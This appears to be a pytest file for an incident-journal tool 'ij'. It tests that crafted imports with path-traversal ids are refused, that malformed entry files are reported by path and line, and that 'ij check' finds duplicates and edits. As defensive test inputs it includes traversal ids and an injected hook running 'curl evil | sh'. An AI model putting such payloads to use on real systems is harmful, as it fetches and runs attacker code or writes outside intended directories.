"""Nothing ij does writes outside the journal: every id a path is built from follows one rule
(letters, digits, dashes, underscores; at most 80), checked before anything is written."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from conftest import Run, git, ij_subprocess, snapshot


def _tree(root: Path) -> dict[str, bytes]:
    """Every file under `root` (outside .git) with its bytes."""
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and ".git" not in p.relative_to(root).parts
    }


@pytest.fixture
def exported(run: Run, journal_dir: Path, tmp_path: Path) -> dict[str, object]:
    run("open", "Checkout errors", "--sev", "2", "--id", "co")
    run("note", "pool at 5/5")
    incident = next((journal_dir / "incidents").iterdir()).name
    data: dict[str, object] = json.loads(run("export", "-i", incident).stdout)
    return data


@pytest.fixture
def other(tmp_path: Path) -> tuple[Path, Run]:
    root = tmp_path / "other"
    Run(tmp_path)("init", str(root))
    return root, Run(root)


def _import(other: tuple[Path, Run], tmp_path: Path, data: dict[str, object]) -> str:
    root, run = other
    path = tmp_path / "crafted.json"
    path.write_text(json.dumps(data))
    victim = tmp_path / "elsewhere" / "victim.toml"
    victim.parent.mkdir(exist_ok=True)
    victim.write_text("mine = true\n")
    before, files = snapshot(root), _tree(tmp_path)
    result = run("import", str(path), code=2)
    assert _tree(tmp_path) == files  # nothing written or changed anywhere under tmp_path
    assert snapshot(root) == before
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    return str(result.stderr)


def test_an_entry_id_that_climbs_out_of_the_journal_is_refused(
    exported: dict[str, object], other: tuple[Path, Run], tmp_path: Path
) -> None:
    entries = exported["entries"]
    assert isinstance(entries, list)
    entries[-1]["id"] = "../../../../elsewhere/victim"
    said = _import(other, tmp_path, exported)
    assert "entry 2: invalid entry id '../../../../elsewhere/victim'" in said


def test_a_crafted_entry_writing_another_tools_config_is_refused(
    exported: dict[str, object], other: tuple[Path, Run], tmp_path: Path
) -> None:
    entries = exported["entries"]
    assert isinstance(entries, list)
    entries[-1].update({"id": "../../config", "hooks": {"post": "curl evil | sh"}})
    said = _import(other, tmp_path, exported)
    assert "invalid entry id '../../config'" in said


def test_an_unknown_key_in_a_valid_entry_is_named(
    exported: dict[str, object], other: tuple[Path, Run], tmp_path: Path
) -> None:
    entries = exported["entries"]
    assert isinstance(entries, list)
    entries[-1]["hooks"] = {"post": "curl evil | sh"}
    assert "entry 2: unknown key 'hooks'" in _import(other, tmp_path, exported)


def test_an_incident_id_that_climbs_out_is_refused(
    exported: dict[str, object], other: tuple[Path, Run], tmp_path: Path
) -> None:
    incident = exported["incident"]
    assert isinstance(incident, dict)
    incident["id"] = "../../elsewhere"
    assert "invalid incident id '../../elsewhere'" in _import(other, tmp_path, exported)


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ("a b", "invalid incident id 'a b'"),
        ("README.md", "use letters, digits, dashes and underscores"),
        ("x" * 300, "characters long: use at most 80"),
        ("-rf", "use letters, digits, dashes and underscores"),
    ],
)
def test_open_refuses_an_id_that_is_not_plain(
    run: Run, journal_dir: Path, given: str, said: str
) -> None:
    before = snapshot(journal_dir)
    result = run("open", "Checkout errors", "--id", given, code=2)
    assert said in result.stderr and result.stderr.count("\n") == 1
    assert snapshot(journal_dir) == before


def test_a_long_id_as_a_real_process(journal_dir: Path) -> None:
    proc = ij_subprocess(journal_dir, "open", "Checkout errors", "--id", "y" * 300)
    assert proc.returncode == 2
    assert "use at most 80" in proc.stderr and "File name too long" not in proc.stderr


BAD_FILES = {
    "truncated": ('id = "{id}"\nkind = "note"\nat = ', "not valid TOML"),
    "wrong type": (None, "'level' has the wrong type (str)"),
    "unknown kind": (None, "unknown kind 'teleport'"),
    "id mismatch": (None, "does not match the file name"),
}


def _spoil(path: Path, case: str) -> int:
    """Spoil an entry file as `case` says; returns the line the problem is on."""
    text = path.read_text()
    if case == "truncated":
        path.write_text(text[: text.index("\nat = ") + 6])
    elif case == "wrong type":
        path.write_text(text.replace("level = 1", 'level = "two"'))
    elif case == "unknown kind":
        path.write_text(text.replace('kind = "severity"', 'kind = "teleport"'))
    else:
        path.write_text(text.replace(f'id = "{path.stem.split("-")[-1]}"', 'id = "zzzzzzzz"'))
    needle = {"truncated": "at = ", "wrong type": 'level = "two"', "unknown kind": "kind = "}
    lines = path.read_text().splitlines()
    return next(
        n for n, line in enumerate(lines, 1) if line.startswith(needle.get(case, 'id = "z'))
    )


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_bad_entry_file_is_skipped_by_every_view_with_its_path_and_line(
    run: Run, journal_dir: Path, case: str
) -> None:
    run("open", "Checkout errors", "--sev", "2", "--id", "co")
    run("note", "pool at 5/5")
    run("sev", "1", "--why", "all EU checkouts fail")
    bad = entry_path = next(
        p
        for p in (journal_dir / "incidents").glob("*/entries/*.toml")
        if "severity" in p.read_text()
    )
    line = _spoil(entry_path, case)
    said = BAD_FILES[case][1]
    for view in (
        ("show",), ("timeline",), ("review",), ("brief", "--for", "exec"), ("handoff",),
        ("export",), ("watch", "--once"), ("nudges",), ("list",),
    ):  # fmt: skip
        result = run(*view, code=None)
        assert result.exit_code in (0, 1), (view, result.stderr)
        if view[0] == "watch":  # the live dashboard says it on its screen, the path cut short
            assert "skipped incidents/" in result.stdout, result.stdout
            continue
        assert f"{bad}:{line}: " in result.stderr and said in result.stderr, (view, result.stderr)
        if view[0] in ("show", "review", "brief", "handoff"):  # a render says it is incomplete
            assert result.stdout.rstrip().endswith(
                "> **Incomplete:** an entry file could not be read and is left out of this "
                "view; `ij check` names it and the problem."
            ), view
    assert f"{bad}:{line}: " in run("list").stderr  # again: the cached row is not trusted
    public = run("brief", "--for", "public", code=None).stdout
    assert "Incomplete" not in public  # the warning on stderr tells whoever runs it
    assert "pool at 5/5" in run("timeline").stdout
    proc = ij_subprocess(journal_dir, "timeline")
    assert proc.returncode == 0 and f"{bad}:{line}: " in proc.stderr
    git(journal_dir, "checkout", "--", str(bad))  # mended: whole again, and says nothing
    assert "Incomplete" not in run("show").stdout


def test_check_names_every_problem_at_its_line(run: Run, journal_dir: Path) -> None:
    """One id in two files, an edited committed entry, a file cut short: each as path:line."""
    run("open", "Checkout errors", "--sev", "2", "--id", "co")
    run("note", "first note")
    run("note", "second note")
    first, second = sorted((journal_dir / "incidents").glob("*/entries/*.toml"))[1:3]
    copy = second.with_name("20991231T000000.000000Z-" + first.name.split("-")[-1])
    copy.write_text(first.read_text())
    second.write_text(second.read_text().replace("second note", "second note, edited"))
    out = run("check", code=1).stdout.splitlines()
    rel = {p: str(p.relative_to(journal_dir)) for p in (first, second, copy)}
    assert f"{rel[copy]}:1: entry id {first.stem.split('-')[-1]} is also in {rel[first]}" in out
    assert any(line.startswith(f"{rel[second]}:1: changed since it was committed") for line in out)
    assert any(line.startswith(f"{rel[copy]}:1: entry not committed yet") for line in out)
    assert all(re.match(r"^[^:]+:\d+: ", line) for line in out), out
